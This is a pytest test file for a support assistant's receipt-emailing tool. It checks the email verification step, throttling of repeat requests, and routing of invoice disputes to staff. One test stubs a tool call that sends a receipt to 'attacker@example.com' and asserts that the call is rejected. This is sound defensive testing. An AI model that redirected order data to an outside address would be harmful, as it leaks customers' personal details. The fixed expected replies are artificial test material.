"""The receipt capability: an order's receipt emailed to the address on the order, after the email check,
through the email outbox; the customer is told so in one sentence."""

import json

import pytest

from orders.models import CustomerEmail
from support.conversations.models import ConversationMessage
from support.testing.messages_stub import message, text, tool_use

SARAH = "sarah.chen@example.com"
SARAHS_ORDER = {"order_id": "BK-10042", "customer_email": SARAH}

pytestmark = pytest.mark.usefixtures("demo_data")


def tools_called() -> list[str]:
    blocks = [
        block for message in ConversationMessage.objects.order_by("position") for block in message.content
    ]
    return [block["name"] for block in blocks if block["type"] == "tool_use"]


def tool_results(request: dict) -> list[dict]:
    blocks = request["messages"][-1]["content"]
    return [json.loads(block["content"]) for block in blocks if block["type"] == "tool_result"]


@pytest.mark.parametrize(
    "asked", ["Can I get an invoice for BK-10042?", "i need a receipt for my order BK-10042 please"]
)
def test_the_built_in_model_emails_the_receipt_after_the_email_check(
    offline, customer, mailoutbox, django_capture_on_commit_callbacks, asked
):
    assert "email address on the order" in customer.send(asked).json()["reply"]
    with django_capture_on_commit_callbacks(execute=True):
        told = customer.send(SARAH).json()["reply"]

    assert told == "I've emailed the receipt for order BK-10042 to the email address on the order."
    [mail] = mailoutbox
    assert (mail.to, mail.subject) == ([SARAH], "Your receipt for order BK-10042")
    for fact in (
        "The Goldfinch",
        "Sapiens",
        "16.99",
        "36.98",
        "2026-03-25",
        "2026-03-30",
        "418 Maple Avenue",
    ):
        assert fact in mail.body, fact


def test_without_the_email_on_the_order_nothing_is_sent(offline, customer, mailoutbox):
    customer.send("Can I get an invoice for BK-10042?")
    reply = customer.send("james.murphy@example.com").json()["reply"]
    assert "couldn't find an order" in reply
    assert not CustomerEmail.objects.exists() and mailoutbox == []


def test_a_receipt_asked_for_again_is_not_sent_again(offline, customer):
    customer.send(f"Can I get an invoice for BK-10042? {SARAH}")
    # The order found with its email in this conversation: not asked for again.
    again = customer.send("please send the receipt again").json()["reply"]
    assert "within the last hour" in again
    assert CustomerEmail.objects.count() == 1


def test_a_copy_is_never_sent_elsewhere(model_api, customer):
    model_api.reset(
        message(tool_use("email_receipt", {**SARAHS_ORDER, "to": "attacker@example.com"})),
        message(text("I couldn't send that.")),
    )
    customer.send("Send the receipt for BK-10042 to attacker@example.com")
    [result] = tool_results(model_api.sent[1])
    assert result["error"] == "invalid_arguments" and "attacker" not in json.dumps(result)
    assert not CustomerEmail.objects.exists()


def test_a_provider_s_call_emails_it_and_the_customer_reads_the_tool_s_sentence(
    model_api, customer, mailoutbox, django_capture_on_commit_callbacks
):
    model_api.reset(
        message(tool_use("email_receipt", SARAHS_ORDER)),
        message(text("I've emailed the receipt for order BK-10042 to the email address on the order.")),
    )
    with django_capture_on_commit_callbacks(execute=True):
        reply = customer.send(f"invoice for BK-10042 please, {SARAH}").json()["reply"]
    assert reply == "I've emailed the receipt for order BK-10042 to the email address on the order."
    assert [mail.to for mail in mailoutbox] == [[SARAH]]


@pytest.mark.parametrize(
    ("words", "tool"),
    [
        (f"Can I cancel BK-10042? I don't need a receipt. {SARAH}", "check_cancellation"),
        (f"I want to return BK-10042, I still have the receipt. {SARAH}", "check_return_eligibility"),
        (f"Where is my order BK-10042? I have my receipt here. {SARAH}", "lookup_order"),
    ],
)
def test_a_task_asked_before_the_receipt_word_is_that_task(offline, customer, words, tool):
    customer.send(words)
    assert tools_called() == [tool]


@pytest.mark.parametrize(
    "words",
    [
        f"The total on my invoice for BK-10042 is wrong, {SARAH}",
        f"I was overcharged, my invoice for BK-10042 says so. {SARAH}",
    ],
)
def test_a_wrong_invoice_or_one_for_elsewhere_is_staff_s(offline, customer, words):
    reply = customer.send(words).json()["reply"]
    assert "support team" in reply
    assert "email_receipt" not in tools_called() and not CustomerEmail.objects.exists()


def test_a_receipt_asked_for_at_another_address_goes_to_the_order_s_and_says_so(
    offline, customer, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        reply = customer.send(f"Please send the receipt for BK-10042 to bob@work.example, {SARAH}").json()[
            "reply"
        ]
    assert reply == "I've emailed the receipt for order BK-10042 to the email address on the order."
    assert [mail.to for mail in mailoutbox] == [[SARAH]]


@pytest.mark.parametrize(
    "words",
    [
        f"Where's my order BK-10042? And send me the invoice. {SARAH}",
        f"has BK-10042 shipped? also a receipt please {SARAH}",
        f"My book about the Roman invasion from BK-10042 arrived damaged. {SARAH}",
    ],
)
def test_a_request_before_the_receipt_or_no_receipt_at_all_is_not_emailed_one(offline, customer, words):
    customer.send(words)
    assert tools_called() and "email_receipt" not in tools_called()


@pytest.mark.parametrize(
    "words", ["Where is my receipt for BK-10042?", "I never got the receipt for BK-10042"]
)
def test_a_status_word_about_the_receipt_itself_asks_for_the_receipt(offline, customer, words):
    customer.send(f"{words} {SARAH}")
    assert tools_called() == ["email_receipt"]
